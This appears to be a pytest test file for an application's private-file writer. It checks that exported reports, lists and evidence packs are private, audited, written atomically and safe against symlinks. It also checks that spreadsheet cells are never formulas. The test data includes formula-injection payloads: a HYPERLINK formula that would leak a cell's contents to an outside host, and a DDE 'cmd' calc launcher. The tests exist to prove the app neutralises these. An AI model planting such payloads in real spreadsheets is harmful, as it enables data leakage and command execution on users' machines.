"""Every file with people's data is written the one way (app/private_files.py): private to the
user, whole or not at all, only once its audit entry committed, never through a symbolic link
nor over a read-only file; and user text in a spreadsheet is data, never a formula."""

from __future__ import annotations

import errno
import os
import stat
import tempfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from app import i18n, paths
from app.db.engine import Database
from app.db.models import AuditEvent, Programme
from app.domain.report import ReportRequest
from app.domain.sheets import SheetOptions
from app.errors import UserError
from app.services.container import Services
from app.services.exchange import ExchangeService
from app.services.report_output import ReportFiles
from app.services.reports import ReportService
from tests.report_dataset import PERIOD, build
from tests.reports.sheet_data import build as build_sheet

HOSTILE_NAME = '=HYPERLINK("http://exemple.cat/?"&A1,"Clic")\x07'


@pytest.fixture(autouse=True)
def english(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(i18n, "_current", "en")


@pytest.fixture
def ids(db: Database) -> dict[str, str]:
    return build(db)


def audits(db: Database) -> int:
    with db.read() as s:
        return int(s.scalar(select(func.count()).select_from(AuditEvent)) or 0)


def report(db: Database, ids: dict[str, str], path: Path) -> None:
    ReportService(db).export(ReportRequest((ids["prog"],), *PERIOD), ReportFiles(pdf=path))


def sheet(db: Database, ids: dict[str, str], path: Path) -> None:
    sheets = Services(db).sheets
    named = sheets.session_sheet(build_sheet(db).session_id)
    assert named.has_names
    sheets.write(named, SheetOptions(), path)


def interchange(db: Database, ids: dict[str, str], path: Path) -> None:
    ExchangeService(db).export_file(path)


def people_list(db: Database, ids: dict[str, str], path: Path) -> None:
    ExchangeService(db).export_list(["Nom"], [["Aina"], ["Joan"]], path, title="Llista")


def evidence(db: Database, ids: dict[str, str], path: Path) -> None:
    """The evidence pack, with the register extracts of its held sessions (names)."""
    ReportService(db).evidence_pack(ReportRequest((ids["prog"],), *PERIOD), path)


WRITERS: dict[str, tuple[Callable[[Database, dict[str, str], Path], None], str]] = {
    "report": (report, "pdf"),
    "evidence": (evidence, "zip"),
    "sheet": (sheet, "pdf"),
    "interchange": (interchange, "json"),
    "list": (people_list, "xlsx"),
}


@pytest.mark.parametrize("kind", sorted(WRITERS))
def test_a_written_file_is_private_and_audited(
    db: Database, ids: dict[str, str], tmp_path: Path, kind: str
) -> None:
    write, suffix = WRITERS[kind]
    before = audits(db)
    out = tmp_path / "out"
    out.mkdir()
    path = out / f"out.{suffix}"
    write(db, ids, path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert audits(db) > before
    assert sorted(p.name for p in out.iterdir()) == [path.name]  # no temporary left


@pytest.mark.parametrize("kind", sorted(WRITERS))
def test_a_full_disk_leaves_no_file_and_no_audit_entry(
    db: Database, ids: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    write, suffix = WRITERS[kind]
    before = audits(db)

    def full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr("app.private_files.os.fsync", full)
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(UserError, match="no room left on the disk"):
        write(db, ids, out / f"out.{suffix}")
    assert list(out.iterdir()) == []
    assert audits(db) == before


@pytest.mark.parametrize("kind", ["report", "evidence", "sheet", "interchange", "list"])
def test_a_refused_audit_entry_leaves_no_file(
    db: Database, ids: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    write, suffix = WRITERS[kind]

    def refused(*_args: object, **_kwargs: object) -> None:
        raise OSError(errno.EIO, "the audit log could not be written")

    monkeypatch.setattr("app.services.audit.record", refused)
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(OSError):
        write(db, ids, out / f"out.{suffix}")
    assert list(out.iterdir()) == []


def test_a_symbolic_link_at_the_target_is_replaced_not_written_through(
    db: Database, ids: dict[str, str], tmp_path: Path
) -> None:
    victim = tmp_path / "precious.txt"
    victim.write_text("do not overwrite", encoding="utf-8")
    link = tmp_path / "sheet.pdf"
    link.symlink_to(victim)
    sheet(db, ids, link)
    assert victim.read_text(encoding="utf-8") == "do not overwrite"
    assert not link.is_symlink() and link.read_bytes().startswith(b"%PDF")


def test_a_read_only_file_is_refused_not_replaced(
    db: Database, ids: dict[str, str], tmp_path: Path
) -> None:
    target = tmp_path / "report.pdf"
    target.write_bytes(b"the funder's copy")
    target.chmod(0o444)
    if os.access(target, os.W_OK):
        pytest.skip("running as a user who may write anything (root)")
    with pytest.raises(UserError, match="read-only"):
        report(db, ids, target)
    assert target.read_bytes() == b"the funder's copy"


def test_a_folder_or_a_missing_folder_as_target_is_one_sentence(
    db: Database, ids: dict[str, str], tmp_path: Path
) -> None:
    with pytest.raises(UserError, match="not a regular file"):
        sheet(db, ids, tmp_path)
    with pytest.raises(UserError, match="does not exist"):
        interchange(db, ids, tmp_path / "missing" / "x.json")


def test_report_spreadsheet_text_is_never_a_formula(
    db: Database, ids: dict[str, str], tmp_path: Path
) -> None:
    with db.begin() as s:
        programme = s.get(Programme, ids["prog"])
        assert programme is not None
        programme.name = HOSTILE_NAME
    path = tmp_path / "r.xlsx"
    ReportService(db).export(ReportRequest((ids["prog"],), *PERIOD), ReportFiles(xlsx=path))
    book = openpyxl.load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    named = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert named, "the programme's name is in the workbook"
    assert all(c.data_type == "s" and "\x07" not in c.value for c in named)
    assert not [c for c in cells if c.data_type == "f"]


def test_csv_list_neutralises_what_a_spreadsheet_would_run(tmp_path: Path, db: Database) -> None:
    path = tmp_path / "l.csv"
    rows = [["=1+1"], ["\t=cmd|' /C calc'!A0"], ["\r@SUM(A1)"], ["+34 600 000 001"]]
    ExchangeService(db).export_list(["Nom"], rows, path, title="Llista")
    lines = path.read_bytes().decode("utf-8-sig").split("\r\n")
    assert lines[1:5] == ["'=1+1", "'\t=cmd|' /C calc'!A0", '"\'\r@SUM(A1)"', "+34 600 000 001"]


def test_xlsx_building_spills_only_into_the_private_folder(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl.worksheet import _writer

    made: list[str] = []
    original = _writer.create_temporary_file

    def spy(suffix: str = "") -> str:
        made.append(original(suffix))
        return made[-1]

    monkeypatch.setattr(_writer, "create_temporary_file", spy)
    ExchangeService(db).export_list(["Nom"], [["Aina"]], tmp_path / "l.xlsx", title="Llista")
    assert made and all(Path(name).parent == paths.temp_dir() for name in made)
    assert tempfile.tempdir != str(paths.temp_dir())  # put back afterwards


def test_the_evidence_pack_logs_its_register_extracts_with_it(
    db: Database, ids: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The extracts' prints are logged in the pack's own unit of work: a pack that is not
    written leaves no entry of them either."""
    path = tmp_path / "pack.zip"
    evidence(db, ids, path)
    with db.read() as s:
        details = s.scalars(select(AuditEvent.details)).all()
    extracts = [d for d in details if d.startswith("register extract")]
    assert extracts and any("->" in d and str(path) in d for d in details)
    before = audits(db)

    def full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr("app.private_files.os.fsync", full)
    other = tmp_path / "again.zip"
    with pytest.raises(UserError):
        evidence(db, ids, other)
    assert not other.exists() and audits(db) == before
